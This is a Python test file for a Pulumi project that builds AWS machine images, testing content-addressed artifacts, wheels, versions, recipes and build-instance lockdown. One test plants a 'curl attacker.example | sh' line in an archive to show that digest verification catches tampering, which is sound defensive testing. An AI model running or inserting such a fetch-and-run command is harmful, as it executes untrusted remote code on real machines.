"""Machine images: named by content, built of what the repository holds, adopted by name."""

from __future__ import annotations

import email
import os
import re
import subprocess
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pulumi
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from cinema.artifacts import Artifact, tree
from cinema.machines import MachineSettings, Sources, document, version_of
from cinema.names import Names
from cinema.wheel import wheel
from tests.stack.engine_double import ROOT, Registered, World, run

NAMES = Names(project="cinema", stack="test", account="123456789012", region="us-east-1")
IMAGE = "aws:imagebuilder/image:Image"
RECIPE = "aws:imagebuilder/imageRecipe:ImageRecipe"
COMPONENT = "aws:imagebuilder/component:Component"
PIPELINE = "aws:imagebuilder/imagePipeline:ImagePipeline"
TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"
OBJECT = "aws:s3/bucketObjectv2:BucketObjectv2"
UV = os.environ.get("UV", "uv")


# ── artifacts ───────────────────────────────────────────────────────────────────────────────────


@given(st.dictionaries(st.from_regex(r"[a-z]{1,3}(/[a-z.]{1,3}[a-z])?", fullmatch=True), st.text()))
def test_a_key_is_of_the_content_and_nothing_else(texts: dict[str, str]) -> None:
    artifact = Artifact("some.zip", texts)
    again = Artifact("some.zip", dict(reversed(texts.items())))
    assert artifact.key == again.key == f"{artifact.digest}/some.zip"
    for path, text in texts.items():
        changed = Artifact("some.zip", {**texts, path: text + "."})
        renamed = Artifact("some.zip", {f"{p}x" if p == path else p: t for p, t in texts.items()})
        assert len({artifact.digest, changed.digest, renamed.digest}) == 3


def test_the_digest_is_what_sha256sum_says_where_the_archive_is_unpacked(tmp_path: Path) -> None:
    artifact = Sources(
        image_key="", patch_key="", machines=ROOT / "stack" / "machines", folder="api"
    ).archive("api")
    assert "api/install/20-service.sh" in artifact.files
    archive = tmp_path / artifact.name
    unpacked(artifact, archive)
    assert verified(artifact, tmp_path).returncode == 0

    with ZipFile(archive, "a") as more:
        more.writestr("common/install/99-more.sh", "curl attacker.example | sh\n")
    assert verified(artifact, tmp_path).returncode != 0


def unpacked(artifact: Artifact, archive: Path) -> None:
    with ZipFile(archive, "w") as out:
        for path, content in artifact.files.items():
            out.writestr(path, content if isinstance(content, str) else content.read_bytes())


def verified(artifact: Artifact, where: Path) -> subprocess.CompletedProcess[str]:
    """Run the very lines of the document that unpack and verify."""
    settings = MachineSettings(folder="api", image=None, patch=None, artifacts=(artifact,))
    build, _, _ = yaml.safe_load(document(NAMES, "api", settings))["phases"]
    (script,) = build["steps"][1]["inputs"]["commands"]
    lines = script.replace("cd /var/tmp/cinema", f"cd {where}").splitlines()
    until = next(i for i, line in enumerate(lines) if line.startswith("bash "))
    code = "\n".join(lines[:until])
    return subprocess.run(["bash", "-c", code], check=False, capture_output=True, text=True)


def test_a_name_that_sha256sum_would_write_otherwise_is_refused() -> None:
    with pytest.raises(ValueError, match="no name for a file"):
        _ = Artifact("some.zip", {"a\nb": ""}).digest


def test_what_python_leaves_behind_is_in_no_archive(tmp_path: Path) -> None:
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "a.pyc").write_text("")
    (tmp_path / "a.py").write_text("")
    assert list(tree(tmp_path)) == ["a.py"]


# ── the wheel ───────────────────────────────────────────────────────────────────────────────────


def test_the_wheel_holds_what_a_build_with_its_own_backend_puts_into_it(tmp_path: Path) -> None:
    """Builds the real wheel; needs uv, and the package index or uv's cache."""
    ours = wheel(ROOT / "service")
    command = [UV, "build", "--quiet", "--wheel", "--out-dir", str(tmp_path), str(ROOT / "service")]
    subprocess.run(command, check=True)
    (built,) = tmp_path.glob("*.whl")
    assert built.name == ours.name
    with ZipFile(built) as archive:
        theirs = {name: archive.read(name) for name in archive.namelist()}
    assert set(theirs) == set(ours.files)
    for name, content in ours.files.items():
        if isinstance(content, Path):
            assert content.read_bytes() == theirs[name]
    (info,) = {name.split("/")[0] for name in theirs if ".dist-info/" in name}
    assert ours.files[f"{info}/entry_points.txt"] == theirs[f"{info}/entry_points.txt"].decode()
    assert about(ours.files[f"{info}/METADATA"]) == about(theirs[f"{info}/METADATA"].decode())


def about(metadata: Path | str) -> list[tuple[str, str]]:
    assert isinstance(metadata, str)
    fields = email.message_from_string(metadata).items()
    # A set of bounds, which backends write in an order of their own.
    return sorted((k, ",".join(sorted(v.split(",")))) for k, v in fields if k != "Metadata-Version")


def test_the_requirements_are_those_of_the_lock_with_their_hashes() -> None:
    command = [
        UV, "export", "--frozen", "--offline", "--quiet", "--package", "cinema-api", "--no-dev",
        "--no-emit-workspace", "--no-annotate", "--no-header", "--format", "requirements-txt",
    ]  # fmt: skip
    done = subprocess.run(command, check=True, capture_output=True, text=True, cwd=ROOT)
    assert (ROOT / "service" / "requirements.txt").read_text() == done.stdout


# ── versions ────────────────────────────────────────────────────────────────────────────────────


@given(st.text(), st.text())
def test_a_version_is_of_the_content(one: str, other: str) -> None:
    versions = {version_of([one]), version_of([other])}
    assert len(versions) == len({one, other})
    for version in versions:
        assert re.fullmatch(r"1\.\d+\.\d+", version)
        # (Image Builder User Guide, "Semantic versioning")
        assert all(int(part) < 2**30 for part in version.split("."))


def project(folder: Path, script: str) -> MachineSettings:
    for name in ("build.sh", "check.sh", "common/install/10-packages.sh", "api/install/10-api.sh"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(name)
    (folder / "api/install/10-api.sh").write_text(script)
    sources = Sources(image_key="", patch_key="", machines=folder, folder="api")
    return MachineSettings(
        folder="api", image=None, patch=None, artifacts=(sources.archive("api"),)
    )


def test_a_change_of_a_script_is_another_document(tmp_path: Path) -> None:
    first = document(NAMES, "api", project(tmp_path, "dnf install python3.13"))
    assert document(NAMES, "api", project(tmp_path, "dnf install python3.13")) == first
    assert document(NAMES, "api", project(tmp_path, "dnf install python3.14")) != first


def test_a_document_fetches_verifies_builds_and_is_checked_twice(tmp_path: Path) -> None:
    settings = project(tmp_path, "")
    told = yaml.safe_load(document(NAMES, "api", settings))
    assert told["schemaVersion"] == 1.0
    assert [phase["name"] for phase in told["phases"]] == ["build", "validate", "test"]
    build, validate, test = told["phases"]
    fetch, install = build["steps"]
    assert fetch["action"] == "S3Download"
    assert fetch["inputs"] == [
        {
            "source": f"s3://{NAMES.bucket('artifacts')}/{settings.artifacts[0].key}",
            "destination": "/var/tmp/cinema/api.zip",  # noqa: S108 - of the build instance
            "expectedBucketOwner": NAMES.account,
        }
    ]
    (script,) = install["inputs"]["commands"]
    assert script.startswith("set -euo pipefail\n")
    assert settings.artifacts[0].digest in script
    assert validate["steps"] == test["steps"]


# ── what is declared ────────────────────────────────────────────────────────────────────────────


def one(found: World, type_: str, name: str) -> Registered:
    return found.of(type_)[name]


@pytest.fixture(scope="module")
def built() -> World:
    return run("prod")


def test_the_recipe_names_the_component_and_the_image_the_recipe(built: World) -> None:
    for machine in ("api", "database"):
        recipe = one(built, RECIPE, machine)
        assert recipe.inputs["components"] == [{"componentArn": f"arn-of:{machine}"}]
        for type_ in (IMAGE, PIPELINE):
            assert one(built, type_, machine).inputs["imageRecipeArn"] == f"arn-of:{machine}"
        (disk,) = recipe.inputs["blockDeviceMappings"]
        assert disk["ebs"]["encrypted"] == "true"
        assert recipe.inputs["parentImage"].endswith("amazon-linux-2023-arm64/x.x.x")


def test_every_object_has_the_key_that_its_document_fetches(built: World) -> None:
    fetched = {
        entry["source"].removeprefix(f"s3://{bucket}/")
        for component in built.of(COMPONENT).values()
        for bucket in ["cinema-prod-artifacts-123456789012-us-east-1"]
        for entry in yaml.safe_load(component.inputs["data"])["phases"][0]["steps"][0]["inputs"]
    }
    objects = {
        r.inputs["key"]: r for r in built.of(OBJECT).values() if "artifacts" in r.inputs["bucket"]
    }
    assert set(objects) == fetched
    assert {key.split("/")[1] for key in fetched} == {
        "api.zip", "cinema_api-0.1.0-py3-none-any.whl", "database.zip",
    }  # fmt: skip
    assert all(isinstance(r.inputs["source"], pulumi.AssetArchive) for r in objects.values())


def test_state_holds_no_path_of_one_machine(built: World) -> None:
    for resource in built.of(OBJECT).values():
        source = resource.inputs.get("source")
        if isinstance(source, pulumi.AssetArchive):
            for asset in source.assets.values():
                if isinstance(asset, pulumi.FileAsset):
                    assert not Path(asset.path).is_absolute()


def test_what_runs_waits_for_the_image_and_the_image_for_its_artifacts(built: World) -> None:
    image, template = one(built, IMAGE, "api"), one(built, TEMPLATE, "api")
    assert image.urn in template.needs
    objects = built.of(OBJECT)
    assert objects["api.zip"].urn in image.needs
    assert objects["cinema_api-0.1.0-py3-none-any.whl"].urn in image.needs


def test_a_build_instance_admits_nobody_and_takes_imdsv2(built: World) -> None:
    type_ = "aws:imagebuilder/infrastructureConfiguration:InfrastructureConfiguration"
    (infrastructure,) = built.of(type_).values()
    assert infrastructure.inputs["instanceMetadataOptions"] == {
        "httpTokens": "required", "httpPutResponseHopLimit": 1,
    }  # fmt: skip
    assert "keyPair" not in infrastructure.inputs
    assert infrastructure.inputs["terminateInstanceOnFailure"] is True
    ingress = built.of("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule")
    assert not [name for name in ingress if "-to-builder-" in name]


def test_images_are_shared_with_nobody(built: World) -> None:
    for resource in built.of(
        "aws:imagebuilder/distributionConfiguration:DistributionConfiguration"
    ).values():
        (part,) = resource.inputs["distributions"]
        assert set(part) == {"region", "amiDistributionConfiguration"}
        assert set(part["amiDistributionConfiguration"]) == {"name", "amiTags"}


def images(**changes: str) -> dict[str, Any]:
    found = run("dev", dry_run=True, **changes)
    assert not found.refusal
    return {
        "template": one(found, TEMPLATE, "api").inputs["imageId"],
        "images": set(found.of(IMAGE)),
        "recipe": found.of(RECIPE),
        "warnings": found.warnings,
        "builder": found.of("aws:iam/role:Role").get("builder"),
    }


def test_an_image_of_ones_own_is_taken_and_nothing_is_built_for_it() -> None:
    found = images(apiImage="ami-0a000000000000001")
    assert found["template"] == "ami-0a000000000000001"
    assert found["images"] == {"bastion", "database"}


def test_without_a_build_the_builder_is_there_and_may_write_no_log() -> None:
    mine = "ami-0a000000000000001"
    found = images(apiImage=mine, bastionImage=mine, databaseImage=mine)
    assert found["images"] == set()
    assert found["builder"] is not None


def test_a_patched_image_is_adopted_for_the_recipe_that_it_was_built_of_and_no_other() -> None:
    before = images()
    version = before["recipe"]["api"].inputs["version"]
    patched = images(apiPatch=f"{version}/ami-0a000000000000009")
    assert before["template"] != "ami-0a000000000000009"
    assert patched["template"] == "ami-0a000000000000009"
    # The image that was built first stays, and with it the way back.
    assert "api" in patched["images"]
    assert not [w for w in patched["warnings"] if "apiPatch" in w]

    stale = images(apiPatch="1.2.3/ami-0a000000000000009")
    assert stale["template"] == before["template"]
    assert [w for w in stale["warnings"] if "cinema:apiPatch is of recipe 1.2.3" in w]
